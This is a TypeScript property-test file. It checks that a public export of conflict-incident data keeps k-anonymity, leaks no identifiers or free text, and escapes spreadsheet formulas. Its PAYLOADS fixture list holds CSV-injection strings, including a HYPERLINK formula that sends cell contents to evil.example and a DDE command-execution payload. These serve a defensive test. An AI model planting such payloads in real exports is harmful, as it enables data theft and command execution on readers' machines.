import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { parseCsv } from '../../test/support/csv.ts';
import { isVigieError } from '../core/errors.ts';
import { PERPETRATOR_CATEGORIES, type PerpetratorCategory } from '../core/event.ts';
import { INCIDENT_HARM_TYPES, type IncidentHarmType } from '../core/incident.ts';
import { PUBLIC_CSV_HEADER, PUBLIC_HXL_TAGS } from './export/public-export.ts';
import type { PublicReleasePort, PublicReleaseRow } from './ports/public-release-port.ts';
import { publicRelease, PUBLIC_FORMATS } from './public-release.ts';

/** A strict fake: the one method of the port; any other property read fails the test loudly. */
function fakePort(rows: readonly object[]): PublicReleasePort & { reads: number } {
  const port = {
    reads: 0,
    verifiedIncidentCells() {
      port.reads++;
      return Promise.resolve(rows.map((r) => ({ ...r })) as PublicReleaseRow[]);
    },
  };
  return new Proxy(port, {
    get(target, key, receiver) {
      if (!(key in target) && key !== 'then') throw new Error(`fake port has no ${String(key)}`);
      return Reflect.get(target, key, receiver) as unknown;
    },
  });
}

// Formula payloads (OWASP's and look-alikes), each tagged with a canary so any leak is found by substring.
const PAYLOADS = [
  '=HYPERLINK("http://evil.example/?"&A1,"clic")',
  "+cmd|' /C calc'!A0",
  '@SUM(1)',
  '-2+3',
  '\t=1',
  '\r=1',
  '\uff1d1', // full-width =
  ' =1',
  '\u3000=1', // ideographic space
  '\u200b=1', // zero-width space
  '\ufe62cmd', // small +
  '=1;=2',
  'a,"b"\r\n=c',
];
const canary = fc.stringMatching(/^[a-z0-9]{10}$/).map((s) => `CANARY${s}`);
const hostile = fc.oneof(
  canary,
  fc.tuple(fc.constantFrom(...PAYLOADS), canary).map(([p, c]) => `${p}${c}`),
  fc.tuple(canary, fc.constantFrom(...PAYLOADS)).map(([c, p]) => `${c}${p}`),
);
const sometimes = <T, U>(good: fc.Arbitrary<T>, bad: fc.Arbitrary<U>) =>
  fc.oneof({ weight: 8, arbitrary: good }, { weight: 1, arbitrary: bad });

/** Rows as a careless store might send them: hostile codes, and protected fields it should never have selected. */
const place = sometimes(
  fc.constantFrom<[string | null, string | null]>(['ML04', 'ML0401'], ['ML07', 'ML0701'], ['ML07', null]),
  fc.tuple(fc.oneof(fc.constant('ML04'), fc.constant(null), hostile), fc.oneof(fc.constant(null), hostile)),
);
const hostileRow = (incidentIds: readonly string[]) =>
  fc
    .record({
      incidentId: fc.constantFrom(...incidentIds),
      place,
      month: sometimes(fc.constantFrom('2023-08', '2023-09'), hostile),
      harm: sometimes(fc.constantFrom<IncidentHarmType>('killing', 'abduction_disappearance'), hostile),
      perpetrator: sometimes(fc.constantFrom<PerpetratorCategory>('state_forces', 'jihadist_group'), hostile),
      victims: sometimes(fc.nat(9), fc.constantFrom(-1, 2.5, Number.NaN, Number.POSITIVE_INFINITY)),
      killed: fc.nat(3),
      injured: fc.nat(3),
      victimName: hostile,
      locationName: hostile,
      perpetratorName: hostile,
      narrative: hostile,
      latitude: fc.double({ min: 10, max: 25, noNaN: true }),
      longitude: fc.double({ min: -12, max: 4, noNaN: true }),
    })
    .map(({ place: [admin1Pcode, admin2Pcode], ...rest }) => ({ ...rest, admin1Pcode, admin2Pcode }));

const releaseInput = fc
  .uniqueArray(canary, { minLength: 3, maxLength: 25 })
  .map((c) => c.map((s) => `INC-${s}`))
  .chain((incidentIds) =>
    fc.record({
      rows: fc.array(hostileRow(incidentIds), { minLength: 80, maxLength: 250 }),
      k: fc.integer({ min: 3, max: 7 }),
    }),
  );

const VOCABULARY: ReadonlySet<string> = new Set<string>([...INCIDENT_HARM_TYPES, ...PERPETRATOR_CATEGORIES]);
const isCode = (s: string) =>
  VOCABULARY.has(s) || /^[A-Z]{2}[0-9]{1,12}$/.test(s) || /^[0-9]{4}-[0-9]{2}$/.test(s);
// Control characters before a formula are what is tested, hence a RegExp built from text.
const FORMULA_START = new RegExp(
  String.raw`^[\s\u0000-\u001f\u200b-\u200f\u3000\ufeff]*[=+\-@\uff1d\uff0b\uff0d\uff20\ufe62\ufe63\ufe66\ufe6b\u2212]`,
);

describe('public release (must-show property)', () => {
  it('keeps k, leaks no identifier or free text, neutralises formulas and round-trips the CSV', async () => {
    let published = 0;
    let suppressed = 0;
    await fc.assert(
      fc.asyncProperty(releaseInput, async ({ rows, k }) => {
        const outputs = await Promise.all(
          PUBLIC_FORMATS.map((format) => publicRelease(fakePort(rows), { k, format })),
        );
        const { release } = outputs[0]!;
        if (release.cells.length > 0) published++;
        if (release.notes.suppressedCells > 0) suppressed++;

        // 1. No published cell stands for fewer than k incidents or people.
        for (const cell of release.cells) {
          expect(cell.incidents).toBeGreaterThanOrEqual(k);
          expect(cell.victims === 0 || cell.victims >= k).toBe(true);
        }
        // 2. No incident id, and no input string that is not a code, appears in any output.
        const inputStrings = rows.flatMap((r) =>
          Object.values(r).filter((v): v is string => typeof v === 'string'),
        );
        const secrets = inputStrings.filter((s) => !isCode(s));
        for (const { body } of outputs) {
          const leaks = [...secrets, ...rows.map((r) => r.incidentId)].filter((s) => body.includes(s));
          expect(leaks).toEqual([]);
          expect(body).not.toMatch(/CANARY|INC-/);
        }
        // 3. Every CSV cell that would start a formula is neutralised; 4. the CSV reads back to the same cells.
        for (const { format, body } of outputs) {
          if (format === 'json') {
            const doc = JSON.parse(body) as { cells: unknown[] };
            expect(doc.cells).toEqual(release.cells);
            continue;
          }
          const [header, ...rest] = parseCsv(body);
          expect(header).toEqual(PUBLIC_CSV_HEADER);
          const data = format === 'hxl' ? rest.slice(1) : rest;
          if (format === 'hxl') expect(rest[0]).toEqual(PUBLIC_HXL_TAGS);
          for (const line of rest)
            for (const cell of line) if (FORMULA_START.test(cell)) expect(cell.startsWith("'")).toBe(true);
          expect(
            data.map(([a1, a2, month, harm, perpetrator, incidents, victims]) => ({
              admin1Pcode: a1 || null,
              admin2Pcode: a2 || null,
              month,
              harm,
              perpetrator,
              incidents: Number(incidents),
              victims: Number(victims),
            })),
          ).toEqual(release.cells);
        }
      }),
      { numRuns: 300 },
    );
    // The property is not vacuous: most runs publish cells and suppress others.
    expect(published).toBeGreaterThan(100);
    expect(suppressed).toBeGreaterThan(150);
  });
});

describe('publicRelease service', () => {
  const row = (id: string, over: Partial<PublicReleaseRow> = {}): PublicReleaseRow => ({
    incidentId: id,
    admin1Pcode: 'ML04',
    admin2Pcode: 'ML0401',
    month: '2023-08',
    harm: 'killing',
    perpetrator: 'self_defence_militia',
    victims: 2,
    killed: 2,
    injured: 0,
    ...over,
  });

  it('defaults to k = 5 and JSON', async () => {
    const rows = Array.from({ length: 5 }, (_, i) => row(`secret-${i}`));
    const result = await publicRelease(fakePort(rows), {});
    expect(result.format).toBe('json');
    expect(result.contentType).toMatch(/^application\/json/);
    expect(result.release.notes.k).toBe(5);
    expect(JSON.parse(result.body)).toMatchObject({
      k: 5,
      cells: [{ admin2Pcode: 'ML0401', incidents: 5, victims: 10 }],
    });
    expect(result.body).not.toContain('secret');
  });

  it('writes HXL CSV with the hashtag row under the header', async () => {
    const rows = Array.from({ length: 6 }, (_, i) => row(`i${i}`));
    const { body, fileName } = await publicRelease(fakePort(rows), { format: 'hxl' });
    expect(fileName).toBe('vigie-public-incidents.hxl.csv');
    expect(body).toBe(
      'admin1_pcode,admin2_pcode,month,harm_type,perpetrator_category,incidents,victims\r\n' +
        '#adm1+code,#adm2+code,#date+month,#impact+type,#org+type+perpetrator,#event+num,#affected+num\r\n' +
        'ML04,ML0401,2023-08,killing,self_defence_militia,6,12\r\n',
    );
  });

  it('rejects k below 3 before reading the store', async () => {
    const port = fakePort([row('a')]);
    const error: unknown = await publicRelease(port, { k: 2 }).catch((e: unknown) => e);
    expect(isVigieError(error) && error.code).toBe('VALIDATION_FAILED');
    expect(port.reads).toBe(0);
  });

  it('has a fake that fails loudly on anything but the port', () => {
    const port = fakePort([]) as unknown as Record<string, unknown>;
    expect(() => port['incidents']).toThrow(/no incidents/);
  });
});
